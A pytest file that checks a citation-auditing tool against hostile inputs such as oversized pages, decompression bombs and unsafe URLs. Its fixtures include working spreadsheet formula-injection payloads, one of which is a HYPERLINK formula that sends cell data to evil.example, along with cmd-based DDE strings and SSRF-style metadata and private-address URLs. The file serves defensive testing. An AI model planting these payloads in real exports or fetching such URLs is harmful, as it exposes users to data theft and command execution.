"""Hostile sources and inputs (issue 15): every cap holds, nothing is silently dropped.

Each test drives the real part (the fixture site on 127.0.0.1, a real SQLite file, the real
CLI, the real report writers) and asserts on what a user would see: the outcome, its reason,
the wall time against the cap.
"""
from __future__ import annotations

import csv
import io

import pytest

from sourcecheckup.fetching.browser import find_chromium
from sourcecheckup.report import write_report
from sourcecheckup.store import Store
from tests.support.synth_run import synthesize_run

# -------------------------------------------------------------- 7. CSV formula injection

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formula_run(tmp_path) -> tuple[Store, str]:
    store = Store(tmp_path / "f.db")
    run_id = synthesize_run(store, responses=1, statements=len(FORMULAS), sources=1)
    with store.db.conn:
        for i, text in enumerate(FORMULAS):
            store.db.execute("UPDATE statements SET text = ? WHERE run_id = ? AND ord = ?", [text, run_id, i])
        store.db.execute("UPDATE verdicts SET rationale = ? WHERE run_id = ?", [FORMULAS[0], run_id])
        store.db.execute("UPDATE responses SET question = ?, model = ? WHERE run_id = ?",
                         [FORMULAS[1], FORMULAS[3], run_id])
    return store, run_id


def test_csv_and_xlsx_reports_keep_every_formula_as_text(tmp_path):
    from openpyxl import load_workbook

    store, run_id = _formula_run(tmp_path)
    rows = list(csv.reader(io.StringIO(write_report(store, run_id, tmp_path / "r.csv").read_bytes().decode("utf-8"),
                                       newline="")))
    cells = [c for row in rows for c in row]
    for text in FORMULAS:
        assert "'" + text in cells, text          # shown as text by a spreadsheet, the words kept
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or
                (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
    wb = load_workbook(write_report(store, run_id, tmp_path / "r.xlsx"))
    texts = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in FORMULAS:
        assert texts.get(text.replace("\r", "")) == "s" or texts.get(text) == "s", text


def test_review_sheet_csv_keeps_formulas_as_text(tmp_path):
    from sourcecheckup.review.sample import draw_sample, write_sample_csv

    store, run_id = _formula_run(tmp_path)
    pairs = draw_sample(store, run_id, 6, seed=1)
    out = tmp_path / "sheet.csv"
    write_sample_csv(pairs, out)
    cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# -------------------------------------------------------------- 5. one bad byte, one bad line

def test_a_jsonl_line_that_is_not_utf8_skips_that_line_only(tmp_path):
    from sourcecheckup.ingest import load_path

    good = '{"response": "Metformin lowers glucose [1].", "citations": ["https://example.org/a"]}'
    bad = '{"response": "Caf\xe9 au lait spots [1].", "citations": ["https://example.org/b"]}'.encode("latin-1")
    path = tmp_path / "batch.jsonl"
    path.write_bytes(b"\n".join([good.encode(), bad, good.encode(), b"", good.encode()]) + b"\n")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["batch.jsonl:1", "batch.jsonl:3", "batch.jsonl:5"]
    assert [(s.origin, s.problem[:30]) for s in result.skipped] == [("batch.jsonl:2", "not UTF-8 text (byte 0xe9 at c")]


def test_records_of_a_one_line_json_array_are_told_apart(tmp_path):
    from sourcecheckup.ingest import load_path

    path = tmp_path / "answers.json"
    path.write_text('[{"response": "Aspirin thins blood.", "citations": ["https://example.org/a"]}, '
                    '{"response": ""}, {"response": "Statins lower LDL.", "citations": []}]', encoding="utf-8")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["answers.json:1 (record 1)", "answers.json:1 (record 3)"]
    assert [s.origin for s in result.skipped] == ["answers.json:1 (record 2)"]


def test_an_input_whose_every_record_is_skipped_exits_1_with_the_reason(tmp_path):
    import subprocess
    import sys

    path = tmp_path / "broken.jsonl"
    path.write_text('{"response": ""}\n{not json\n', encoding="utf-8")
    p = subprocess.run([sys.executable, "-m", "sourcecheckup", "audit", str(path), "--db", str(tmp_path / "a.db"),
                        "--no-archive"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 1, p.stderr
    assert "broken.jsonl:1" in p.stderr and "broken.jsonl:2" in p.stderr
    assert "nothing to audit" in p.stderr


# -------------------------------------------------------------- 3. two processes open a new database

def _open_store(path: str, barrier, results) -> None:
    from sourcecheckup.store import MIGRATIONS, Store

    barrier.wait()
    try:
        with Store(path) as store:
            results.put(("ok", store.schema_version == len(MIGRATIONS) and "runs" in store.db.table_names()))
    except Exception as exc:  # the failure itself is what this test reports
        results.put(("error", f"{type(exc).__name__}: {exc}"))


def test_two_processes_opening_a_new_database_both_see_the_migrated_schema(tmp_path):
    import multiprocessing

    ctx = multiprocessing.get_context("spawn")
    openers = 3
    for trial in range(6):
        path = str(tmp_path / f"new-{trial}.db")
        barrier, results = ctx.Barrier(openers), ctx.Queue()
        procs = [ctx.Process(target=_open_store, args=(path, barrier, results)) for _ in range(openers)]
        for p in procs:
            p.start()
        got = [results.get(timeout=60) for _ in procs]
        for p in procs:
            p.join(10)
        assert got == [("ok", True)] * openers, (trial, got)


# -------------------------------------------------------------- 2. the statement parser is linear

def _long_answer(chars: int) -> str:
    sentences = ["Hypertension is defined as a blood pressure of 130/80 mm Hg or higher [1].",
                 "The DASH diet can lower systolic blood pressure by about 11 mm Hg, e.g. in adults [2].",
                 "Metformin should not be started when the eGFR is below 30 (Dr. Smith et al. 2019).",
                 "As an AI, I cannot give medical advice."]
    block = " ".join(sentences) + " "
    return (block * (chars // len(block) + 1))[:chars]


def test_a_long_answer_is_parsed_into_its_statements():
    from sourcecheckup.models import Response
    from sourcecheckup.parse import BuiltinParser

    parser = BuiltinParser()
    for size in (25_000, 100_000):   # that the time grows linearly: bench/hostile.py ("parse N KB answer")
        response = Response(id="r", text=_long_answer(size), citations=("https://a.example/", "https://b.example/"))
        assert len(parser.parse_sync(response)) > size // 100


def test_an_answer_over_the_size_cap_is_skipped_with_the_cap_named(tmp_path):
    from sourcecheckup.ingest import load_path
    from sourcecheckup.ingest.records import MAX_ANSWER_CHARS

    path = tmp_path / "big.jsonl"
    import json

    path.write_text(json.dumps({"response": _long_answer(5_000_000), "citations": ["https://a.example/"]}) + "\n"
                    + json.dumps({"response": "Aspirin thins the blood.", "citations": []}) + "\n", encoding="utf-8")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["big.jsonl:2"]
    (skip,) = result.skipped
    assert skip.origin == "big.jsonl:1" and f"{MAX_ANSWER_CHARS:,}-character limit" in skip.problem


# -------------------------------------------------------------- 1. extraction under the deadline and a memory bound

def _options(**kw):
    from sourcecheckup.fetching import FetchOptions

    base = dict(allow_hosts=("127.0.0.1",), timeout_s=6.0, connect_timeout_s=2.0, max_bytes=20_000_000,
                backoff_s=0.05)
    base.update(kw)
    return FetchOptions(**base)


async def _fetch(url: str, **kw):
    from sourcecheckup.fetching import HttpFetcher

    f = HttpFetcher(_options(**kw))
    try:
        return await f.fetch(url)
    finally:
        await f.aclose()


async def test_extracting_14_mb_of_nested_divs_stops_at_the_per_source_deadline(site):
    from sourcecheckup.models import FetchStatus

    src = await _fetch(f"{site}/hostile/nested?mb=14", timeout_s=6.0)
    # how soon after the cap (it was 209 s against a 20 s cap): bench/hostile.py
    assert src.status is FetchStatus.TIMEOUT, (src.status, src.reason)
    assert "reading the text of this 14.0 MB document took longer than" in src.reason
    assert src.http_status == 200 and src.sha256   # what was downloaded is still recorded


async def test_extracting_13_mb_of_tables_is_bounded_in_time_and_memory(site):
    from sourcecheckup.fetching import HttpFetcher
    from sourcecheckup.models import FetchStatus

    f = HttpFetcher(_options(timeout_s=8.0))
    f.reader.memory_bytes = 400_000_000   # a tight bound, so that the memory cap is what stops it
    try:
        src = await f.fetch(f"{site}/hostile/tables?mb=13")
    finally:
        await f.aclose()
    # whichever cap comes first stops it (on a loaded machine parsing is slower and the deadline can win);
    # before the fix it ran 45 s past an 8 s cap
    assert src.status in (FetchStatus.TOO_LARGE, FetchStatus.TIMEOUT), (src.status, src.reason)
    assert ("13.0 MB document needed more than 400 MB of memory" in src.reason
            or "reading the text of this 13.0 MB document took longer than" in src.reason), src.reason
    # (how soon after the cap: bench/hostile.py)


async def test_a_large_ordinary_page_is_still_read(site):
    from sourcecheckup.models import FetchStatus

    src = await _fetch(f"{site}/hostile/tables?mb=0.6", timeout_s=120.0)   # read, not refused: a generous cap, as a busy machine reads slowly
    assert src.status is FetchStatus.OK and "Systolic pressure" in src.text, src.reason


# -------------------------------------------------------------- 8. messages that say what happened

async def test_a_pdf_decompression_bomb_is_too_large_not_a_scan(site):
    from sourcecheckup.models import FetchStatus

    src = await _fetch(f"{site}/hostile/pdf-bomb.pdf")
    assert src.status is FetchStatus.TOO_LARGE, (src.status, src.reason)
    assert "decompression bomb" in src.reason and "scanned" not in src.reason


async def test_a_location_header_with_a_tab_is_a_malformed_response_asked_once(site):
    import httpx

    from sourcecheckup.models import FetchStatus

    src = await _fetch(f"{site}/hostile/location-tab")
    assert src.status is FetchStatus.HTTP_ERROR
    assert "malformed response" in src.reason and "reset" not in src.reason and "attempts" not in src.reason
    async with httpx.AsyncClient() as client:
        hits = (await client.get(f"{site}/_hits", params={"path": "/hostile/location-tab"})).json()
    assert hits == {"hits": 1}


async def test_html_served_as_pdf_is_read_as_the_page_it_is(site):
    from sourcecheckup.models import FetchStatus

    src = await _fetch(f"{site}/hostile/html-as-pdf")
    assert src.status is FetchStatus.OK and "130/80" in src.text, (src.status, src.reason)
    assert "damaged" not in src.reason


# -------------------------------------------------------------- 6. citations never vanish at ingest

async def test_ipv6_integer_and_dotless_hosts_stay_citations_and_are_refused_with_a_reason(site):
    from sourcecheckup.fetching import HttpFetcher
    from sourcecheckup.ingest import load_text
    from sourcecheckup.models import FetchStatus

    answer = {"response": "Hypertension is a blood pressure of 130/80 mm Hg or more [1][2][3][4][5][6].",
              "citations": ["http://[2606:4700:4700::1111]/dns-guide", "http://[2001:db8::1]/bp",
                            "https://[::1]:8443/admin", "http://2130706433/latest/meta-data",
                            "http://intranet/guidelines/bp", f"{site}/article/hypertension"]}
    import json

    (response,) = load_text(json.dumps(answer)).responses
    assert len(response.citations) == 6, response.citations
    assert response.citations[0] == "http://[2606:4700:4700::1111]/dns-guide"   # a public one, kept
    prose = load_text("Statins lower LDL (http://[2001:db8::1]/statins, http://intranet/lipids).").responses[0]
    assert prose.citations == ("http://[2001:db8::1]/statins", "http://intranet/lipids")
    f = HttpFetcher(_options(allow_hosts=("127.0.0.1",)))
    try:   # never the public one: nothing here may leave the machine
        got = [await f.fetch(u) for u in response.citations[1:]]
    finally:
        await f.aclose()
    assert [s.status for s in got] == [FetchStatus.UNSAFE_URL] * 4 + [FetchStatus.OK]
    assert "2001:db8::1 is a private network address" in got[0].reason
    assert "loopback" in got[1].reason
    assert "IP address written as a number" in got[2].reason
    assert "has no dot" in got[3].reason


# -------------------------------------------------------------- 4. no WebSocket leaves the browser

class _CountingListener:
    """A TCP listener on 127.0.0.1 that counts the connections made to it."""

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.mark.browser
@pytest.mark.skipif(find_chromium() is None, reason="Chromium is not installed")
async def test_a_rendered_page_cannot_open_websockets_to_unchecked_addresses(site):
    import asyncio

    from sourcecheckup.fetching import FetchOptions, make_fetcher
    from sourcecheckup.models import FetchStatus

    listener = _CountingListener()
    # no resolver rules here: the browser as a user's run starts it
    f = make_fetcher(FetchOptions(allow_hosts=("127.0.0.1",), timeout_s=8.0, browser="always",
                                  browser_page_timeout_s=6.0))
    try:
        src = await f.fetch(f"{site}/hostile/websocket?port={listener.port}")
        await asyncio.sleep(1.0)    # let any late connection arrive
    finally:
        await f.aclose()
        listener.close()
    assert src.status is FetchStatus.OK and src.origin == "browser", (src.status, src.reason)
    assert "130/80 mm Hg" in src.text
    assert listener.connections == 0
